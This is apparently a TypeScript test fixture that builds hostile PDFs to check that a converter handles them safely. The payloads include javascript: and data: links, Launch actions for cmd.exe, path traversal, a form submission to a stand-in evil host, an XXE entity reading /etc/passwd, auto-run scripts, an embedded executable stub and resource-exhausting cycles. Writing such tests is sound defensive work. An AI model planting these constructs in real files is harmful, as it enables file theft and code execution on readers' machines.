import { onePage } from "./document.ts"
import { converts, type HostilePdf } from "./HostilePdf.ts"

/** A page with a link for each of these actions or destinations, and the objects that those name, numbered from 6. */
const linking = (targets: ReadonlyArray<string>, objects: ReadonlyArray<string> = []): Uint8Array => {
  const links = targets.map(
    (target, at) => `<< /Type /Annot /Subtype /Link /Rect [10 ${10 + at * 8} 190 ${17 + at * 8}] ${target} >>`
  )
  return onePage({ page: `/Annots [${links.join(" ")}]`, objects })
}

const uri = (address: string): string => `/A << /S /URI /URI (${address}) >>`

/** Links and orders that would do something, and must not. */
export const actions: ReadonlyArray<HostilePdf> = [
  {
    name: "links that run",
    what: "links to scripts, data, files and things without a name",
    bytes: () =>
      linking(
        [
          "javascript:alert(1)",
          "JaVaScRiPt:alert(1)",
          " java\\tscript:alert(1)",
          "\\000javascript:alert(1)",
          "data:text/html,<script>alert(1)</script>",
          "file:///etc/passwd",
          "vbscript:msgbox(1)",
          "url(javascript:alert(1))",
          "//evil.example",
          "/api/session/logout",
          'https://example.com/" onclick="alert(1)',
          ""
        ].map((address) => uri(address.replaceAll(/(?<!\\)[()]/g, "\\$&")))
      ),
    expected: converts(1)
  },
  {
    name: "links that start",
    what: "links that start programs, open other files, send forms and run scripts",
    bytes: () =>
      linking([
        "/A << /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        "/A << /S /GoToR /F (../../../etc/passwd) /D [0 /Fit] >>",
        "/A << /S /GoToE /T << /R /C /N (x) >> /D [0 /Fit] >>",
        "/A << /S /SubmitForm /F (https://evil.example/) >>",
        "/A << /S /ImportData /F (/etc/passwd) >>",
        "/A << /S /JavaScript /JS (app.alert\\(1\\)) >>",
        "/A << /S /Named /N /Print >>",
        "/A << /S /Hide /T (x) >>",
        `/A << /S /URI /URI (https://example.com/) /Next << /S /JavaScript /JS (app.alert\\(1\\)) >> >>`
      ]),
    expected: converts(1)
  },
  {
    name: "links to nowhere",
    what: "links to pages before the first and beyond the last, and to things that are no pages",
    bytes: () =>
      linking([
        "/Dest [99 /Fit]",
        "/Dest [2147483647 /Fit]",
        "/Dest [-1 /Fit]",
        "/Dest [5 0 R /Fit]",
        "/Dest [99 0 R /Fit]",
        "/Dest (nowhere)",
        "/Dest []",
        "/Dest null",
        "/Dest [3 0 R /XYZ 1e38 -1e38 1e38]",
        "/A << /S /GoTo /D [1000000 /Fit] >>"
      ]),
    expected: converts(1)
  },
  {
    name: "action of itself",
    what: "a link whose next action is its first",
    bytes: () => linking(["/A 6 0 R"], ["<< /S /GoTo /D 6 0 R /Next 6 0 R >>"]),
    expected: converts(1)
  },
  {
    name: "names in a ring",
    what: "a link to a name in a tree of names that is its own branch",
    bytes: () =>
      onePage({
        catalog: "/Names << /Dests 6 0 R >>",
        page: "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /Dest (nowhere) >>]",
        objects: ["<< /Kids [6 0 R 6 0 R] /Limits [(a) (z)] >>"]
      }),
    expected: converts(1)
  },
  {
    name: "100,000 links",
    what: "a page with 100,000 links, all over each other",
    bytes: () =>
      onePage({
        page: `/Annots [${"6 0 R ".repeat(100_000)}]`,
        objects: [`<< /Type /Annot /Subtype /Link /Rect [0 0 200 300] ${uri("https://example.com/")} >>`]
      }),
    expected: converts(1),
    slow: true
  },
  {
    name: "100,000 notes",
    what: "a page with 100,000 notes, each with a picture of its own",
    bytes: () =>
      onePage({
        page: `/Annots [${"6 0 R ".repeat(100_000)}]`,
        objects: [
          "<< /Type /Annot /Subtype /Stamp /Rect [0 0 200 300] /AP << /N 7 0 R >> >>",
          "<< /Type /XObject /Subtype /Form /BBox [0 0 10 10] /Length 15 >>\nstream\n0 0 10 10 re f \nendstream"
        ]
      }),
    expected: converts(1),
    slow: true
  },
  {
    name: "starts by itself",
    what: "a script to be run when it is opened, closed, printed and turned to",
    bytes: () =>
      onePage({
        catalog:
          "/OpenAction << /S /JavaScript /JS (while \\(true\\) app.alert\\(1\\)) >> " +
          "/AA << /WC << /S /JavaScript /JS (x) >> /WP << /S /Launch /F (calc.exe) >> >> " +
          "/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>",
        page: "/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"
      }),
    expected: converts(1)
  },
  {
    name: "stowaway",
    what: "carries a program inside",
    bytes: () =>
      onePage({
        catalog: "/Names << /EmbeddedFiles << /Names [(virus.exe) 6 0 R] >> >>",
        page: "/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 100 100] /FS 6 0 R >>]",
        objects: [
          "<< /Type /Filespec /F (../../virus.exe) /UF (../../virus.exe) /EF << /F 7 0 R >> >>",
          "<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\0\nendstream"
        ]
      }),
    expected: converts(1)
  },
  {
    name: "form in XML",
    what: "an XFA form that draws on a file of its machine",
    bytes: () => {
      const xml =
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' +
        '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>&e;</script></template></xdp:xdp>'
      return onePage({
        catalog: "/AcroForm << /XFA 6 0 R /Fields [] >> /NeedsRendering true",
        objects: [`<< /Length ${xml.length} >>\nstream\n${xml}\nendstream`]
      })
    },
    expected: converts(1)
  },
  {
    name: "fields in a ring",
    what: "fields of a form that are each other's parents, with scripts",
    bytes: () =>
      onePage({
        catalog: "/AcroForm << /Fields [6 0 R] /NeedAppearances true /CO [6 0 R] >>",
        page: "/Annots [6 0 R 7 0 R]",
        objects: [
          "<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 100 50] /Parent 7 0 R /Kids [7 0 R] /AA << /C << /S /JavaScript /JS (x) >> >> >>",
          "<< /Type /Annot /Subtype /Widget /T (b) /Rect [0 50 100 100] /Parent 6 0 R /Kids [6 0 R] >>"
        ]
      }),
    expected: converts(1)
  }
]
